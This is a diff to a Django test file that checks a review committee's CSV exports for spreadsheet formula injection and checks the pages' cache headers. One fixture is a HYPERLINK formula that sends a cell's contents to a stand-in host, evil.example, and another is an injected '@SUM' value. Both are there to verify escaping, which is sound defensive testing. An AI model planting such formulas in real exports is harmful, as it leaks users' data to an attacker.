@@ -1,5 +1,8 @@
 """The committee's pages and the staff's assignment pages, as each role uses them."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -97,9 +100,38 @@ def test_the_conflict_register_exports_as_csv(staff_client, child10, staff):
 
     response = staff_client.get(reverse("review:conflicts"), {"format": "csv"})
 
-    lines = response.content.decode().splitlines()
+    lines = response.content.decode("utf-8-sig").splitlines()
     assert lines[0] == "candidate,member,kind,state,declared,reasons,decided"
     assert lines[1].startswith("Ljus,alice@example.org,funding,confirmed,yes")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+
+
+def test_a_nominated_name_reaches_the_conflict_register_as_text(staff_client, child10, staff):
+    from laurel.review import services
+
+    candidate = ready(child10, FORMULA, website="https://evil.example", staff=staff)
+    services.declare_conflict(member(child10, "alice@example.org"), candidate, kind="funding")
+
+    response = staff_client.get(reverse("review:conflicts"), {"format": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + FORMULA
+    assert response["Cache-Control"] == "no-store, private"
+
+
+def test_a_nominated_name_reaches_the_assignments_as_text(staff_client, child10, staff):
+    for name in (FORMULA, " @SUM(A1)", "Ljus"):
+        ready(child10, name, website=f"https://{len(name)}.example", staff=staff)
+    for number in range(2):
+        member(child10, f"m{number}@example.org")
+    staff_client.post(reverse("review:assignment"), {"k": "1"})
+
+    response = staff_client.get(reverse("review:assignments_csv"))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert sorted({row[1] for row in rows[1:]}) == ["' @SUM(A1)", "'" + FORMULA, "Ljus"]
 
 
 def test_staff_add_a_reviewer_by_hand_but_never_a_conflicted_one(staff_client, child10, staff):
@@ -192,6 +224,9 @@ def test_the_committee_reads_the_due_diligence_verdicts_and_opens_documents_logg
 
     assert ("Finances and governance", "Satisfactory") in page.context["checks"]
     assert download["Content-Disposition"].startswith("attachment")
+    for response in (page, download):  # the candidate page and the document
+        assert "no-store" in response["Cache-Control"]
+        assert "private" in response["Cache-Control"]
     entry = AuditEntry.objects.get(key="candidate.document_opened_by_committee")
     assert entry.actor == alice
 
